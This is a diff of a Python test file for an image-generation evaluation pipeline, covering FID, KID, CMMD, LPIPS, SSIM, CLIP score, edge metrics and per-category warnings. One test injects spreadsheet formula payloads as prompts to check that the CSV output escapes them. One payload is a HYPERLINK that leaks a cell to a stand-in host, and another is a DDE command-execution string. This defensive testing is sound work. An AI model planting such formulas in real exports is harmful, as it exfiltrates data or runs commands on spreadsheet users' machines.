@@ -1,5 +1,6 @@
 """metrics: our FID/KID agree with clean-fid's formulas; LPIPS and CLIP are per image and honest."""
 
+import json
 import re
 
 import numpy as np
@@ -7,10 +8,10 @@ import pandas as pd
 import pytest
 import torch
 
-from stages import metrics
-from stages.common import dataset
+from stages.common import backbones
+from stages.common import dataset, similarity
 from stages.common.errors import StageError
-from stages.common.io import read_json
+from stages.common.io import read_json, write_json
 from stages.common.models import load_clip
 from tests.conftest import fill_generated
 
@@ -18,16 +19,22 @@ from tests.conftest import fill_generated
 def test_identical_images_score_perfectly(extracted):
     p = extracted
     fill_generated(p, lambda i: dataset.gt_path(p.path("eval_data"), i))
-    p.run("metrics")
+    p.run("metrics", metrics__prdc_k=2)  # k below n: PRDC exists
     result = read_json(p.path("metrics"))
     n = p.params["extract"]["eval_products"]
     detail = read_json(p.path("metrics_detail"))
     assert result["n"] == detail["n"] == n and detail["backbones"]["clip"] == "tiny-random-clip"
     for variant in dataset.VARIANTS:
         r = result[variant]
-        assert set(r) == {f"{m}{s}" for m in ("fid", "kid", "lpips", "clip_score", "edge_f1")
-                          for s in ("", "_ci95_low", "_ci95_high")}
+        assert set(r) == {f"{m}{s}" for m in ("fid", "kid", "cmmd", "lpips", "ssim", "psnr", "clip_score", "edge_f1",
+                                              "edge_control") for s in ("", "_ci95_low", "_ci95_high")}
         assert r["fid"] == pytest.approx(0, abs=1e-3)
+        assert r["fid_ci95_low"] is None, "FID at this n: no interval for one variant's FID"
+        assert r["cmmd"] == pytest.approx(0, abs=1e-9)
+        assert r["ssim"] == r["ssim_ci95_low"] == 1.0 and r["psnr"] == similarity.PSNR_MAX
+        # copies of the ground truth follow their maps as well as it does
+        assert r["edge_control"] == pytest.approx(detail["ground_truth"]["edge_control"]["mean"])
+        assert r["edge_control"] > 0 and detail[variant]["prdc"]["precision"] == 1.0
         assert r["lpips"] == pytest.approx(0, abs=1e-6)
         assert r["clip_score"] == pytest.approx(detail["ground_truth"]["clip_score"], abs=1e-6)
         # the edge maps are canny of the ground truth, so its own canny edges match exactly
@@ -37,8 +44,9 @@ def test_identical_images_score_perfectly(extracted):
         assert detail[variant]["edge_f1_mismatched"]["mean"] < 0.9
         assert detail[variant]["kid"] == {"subset_size": n, "subsets": 1, "subset_std": None}
     delta = result["lora_minus_baseline"]
-    for name in ("fid", "kid", "lpips", "clip_score", "edge_f1"):
+    for name in ("fid", "kid", "cmmd", "lpips", "ssim", "psnr", "clip_score", "edge_f1", "edge_control"):
         assert delta[name] == pytest.approx(0, abs=1e-12), "identical variants: every paired delta is zero"
+    assert delta["fid_p_value"] == delta["kid_p_value"] == 1.0, "no difference: every permutation reaches it"
     assert delta["lpips_lora_better"] == delta["lpips_lora_worse"] == 0.0, "a tie is neither a win nor a loss"
     assert any("rank-deficient" in w for w in detail["warnings"]) and any("KID" in w for w in detail["warnings"])
     table = pd.read_csv(p.path("per_sample"))
@@ -73,7 +81,7 @@ def test_different_images_score_worse(extracted):
     for variant in dataset.VARIANTS:
         r = result[variant]
         assert r["fid"] > 0.01 and r["lpips"] > 0.05
-        for name in ("fid", "kid", "lpips", "edge_f1"):
+        for name in ("kid", "cmmd", "lpips", "ssim", "edge_f1"):
             assert r[f"{name}_ci95_low"] <= r[name] <= r[f"{name}_ci95_high"], name
     table = pd.read_csv(p.path("per_sample"))
     assert (table[["clip_score_baseline", "clip_score_lora"]] >= 0).all().all()  # max(cos, 0)
@@ -91,7 +99,7 @@ def test_clip_score_is_the_cosine_of_clip_embeddings(extracted):
     files = [dataset.gt_path(p.path("eval_data"), c["index"]) for c in configs]
     prompts = [c["prompt"] for c in configs]
     model, processor = load_clip(p.path("eval_models"), torch.device("cpu"))
-    ours = metrics.clip_cosines(model, processor, files, prompts, torch.device("cpu"), batch_size=3)
+    ours, embeddings = backbones.clip_embeddings(model, processor, files, prompts, torch.device("cpu"), batch_size=3)
     from PIL import Image
     with torch.no_grad():
         inputs = processor(text=prompts, images=[Image.open(f) for f in files], return_tensors="pt", padding=True)
@@ -99,6 +107,8 @@ def test_clip_score_is_the_cosine_of_clip_embeddings(extracted):
     # logits_per_image = logit_scale * cosine; the diagonal pairs each image with its own prompt
     expected = (out.logits_per_image.diagonal() / model.logit_scale.exp()).detach().numpy()
     np.testing.assert_allclose(ours, expected, rtol=1e-4, atol=1e-5)
+    unit = embeddings / np.linalg.norm(embeddings, axis=1, keepdims=True)  # CLIPModel returns them normalised
+    np.testing.assert_allclose(unit, out.image_embeds.detach().numpy(), rtol=1e-4, atol=1e-5)  # CMMD's features
 
 
 def test_clip_truncates_long_prompts_keeping_eos(extracted):
@@ -107,7 +117,7 @@ def test_clip_truncates_long_prompts_keeping_eos(extracted):
     gt = dataset.gt_path(p.path("eval_data"), 0)
     head = "x" * 75  # the byte-level tiny tokenizer: one token per character; BOS + 75 + EOS = 77
     prompts = [head + "y" * 300, head + "z" * 300, head[:-1] + "w"]
-    scores = metrics.clip_cosines(model, processor, [gt] * 3, prompts, torch.device("cpu"), batch_size=3)
+    scores, _ = backbones.clip_embeddings(model, processor, [gt] * 3, prompts, torch.device("cpu"), batch_size=3)
     assert np.isfinite(scores).all()
     assert scores[0] == pytest.approx(scores[1], abs=1e-6)  # both cut to the same 77 tokens
     # had truncation dropped EOS, CLIP would pool the wrong position and all three would agree
@@ -119,18 +129,29 @@ def test_missing_generations_are_named(extracted):
         extracted.run("metrics")
 
 
-def test_a_formula_in_a_prompt_stays_text_in_the_csv(extracted):
-    """A dataset description is anyone's text: per_sample.csv must not hand a spreadsheet a formula."""
-    import csv
+def strict_json(path) -> dict:
+    """The file as JSON, refusing NaN and Infinity (json.loads would take them)."""
+    def refuse(constant):
+        raise AssertionError(f"{path}: {constant} in a metrics file")
 
-    from stages.common.figures import read_scores
-    from stages.common.io import write_json
+    return json.loads(path.read_text(), parse_constant=refuse)
+
+
+def test_odd_eval_configs_give_text_and_lines_never_a_formula_or_nan(extracted):
+    """A dataset description is anyone's text: per_sample.csv must not hand a spreadsheet a
+    formula. A sample without a category, and every other alone in its own, have no
+    same-category chance level: edge control is null with a line saying why; PRDC with k >= n
+    likewise; nothing in metrics.json is NaN."""
+    import csv
 
     p = extracted
     configs = dataset.load_eval_configs(p.path("eval_data"))
     hostile = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "'quoted"]
     for config, prompt in zip(configs, hostile):
         config["prompt"] = prompt
+    configs[0].pop("category")
+    for i, config in enumerate(configs[1:]):
+        config["category"] = f"KIND {i}"
     write_json(p.path("eval_data") / dataset.EVAL_CONFIGS, configs)
     fill_generated(p, lambda i: dataset.edge_path(p.path("edges"), i))
     p.run("metrics")
@@ -138,5 +159,16 @@ def test_a_formula_in_a_prompt_stays_text_in_the_csv(extracted):
         cells = [row["prompt"] for row in csv.DictReader(f)]
     assert cells[:3] == ["'" + text for text in hostile]
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
-    assert read_scores(str(p.path("per_sample")))["prompt"].tolist() == [c["prompt"] for c in configs], \
-        "plots and the report read back the prompts exactly"
+
+    result, detail = strict_json(p.path("metrics")), strict_json(p.path("metrics_detail"))
+    n = len(configs)
+    for block in ("baseline", "lora", "lora_minus_baseline"):
+        assert result[block]["edge_control"] is None and result[block]["edge_control_ci95_low"] is None
+    assert result["lora_minus_baseline"]["edge_control_lora_better"] is None
+    assert detail["baseline"]["prdc"] is None and detail["ground_truth"]["edge_control"]["mean"] is None
+    assert detail["per_category"]["(no category)"]["n"] == 1
+    assert detail["per_category"]["KIND 0"]["lora"]["ssim"]["ci95_low"] is None, "one sample: no interval"
+    warnings = "\n".join(detail["warnings"])
+    assert f"1 of {n} eval samples have no category" in warnings
+    assert "KIND 0, KIND 1" in warnings and "no same-category chance level" in warnings
+    assert f"PRDC: n = {n} eval images, fewer than metrics.prdc_k + 1 = 6" in warnings
